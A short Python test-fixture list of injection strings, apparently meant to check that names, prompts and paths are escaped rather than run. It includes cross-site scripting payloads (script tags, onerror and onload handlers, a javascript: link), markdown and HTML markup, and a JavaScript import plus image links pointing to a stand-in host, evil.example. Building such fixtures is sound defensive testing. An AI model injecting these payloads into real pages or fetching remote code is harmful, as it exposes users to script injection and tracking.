"""Names, prompts and paths that are a program, or markup, to whoever does not take them for texts."""

TEXTS = [
    "{document.title='x'}", "{alert(1)}", "{(() => { document.title = 'x' })()}", "{`${document.title='x'}`}", "{/*",
    "<img src=x onerror=\"document.title='x'\">", "<script>document.title='x'</script>", "<svg onload=alert(1)>",
    "</p><script>document.title='x'</script>", "<iframe srcdoc='<script>parent.document.title=1</script>'>",
    "<style>* { display: none }</style>", "<b>bold</b>", "<!-- a comment", "<![CDATA[ x ]]>", "<a href='//x'>y</a>",
    "import x from 'https://evil.example/x.js'", "export const x = document.title = 'x'", "# heading", "> quotation",
    "[text](javascript:document.title='x')", "![picture](https://evil.example/x.png)", "[x]: https://evil.example",
    "**bold** _italic_ ~~struck~~", "`code` ```js\nalert(1)\n```", "| a | b |", "- a list", "1. a list", "a * b * c",
    "www.evil.example a@evil.example",
    "&lt;img src=x onerror=alert(1)&gt;", "&#123;alert(1)&#125;", "\\{alert(1)\\}", "$x$ \\(y\\)", "C:\\Users\\x_y_z",
]  # fmt: skip
